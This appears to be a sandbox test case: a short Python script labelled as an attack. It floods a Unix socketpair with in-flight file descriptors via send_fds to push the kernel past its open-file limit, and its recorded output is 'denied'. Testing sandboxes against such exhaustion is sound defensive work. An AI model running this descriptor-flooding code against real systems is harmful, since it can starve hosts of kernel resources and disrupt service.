# attack: sends descriptors to itself by a socket until the kernel holds more than it may have open
# status: succeeded
# stdout: denied
import os, socket
a, b = socket.socketpair()
a.setblocking(False)
try:
    for _ in range(100_000): socket.send_fds(a, [b"x"], [0] * 200)
    print("all sent")
except OSError: print("denied")
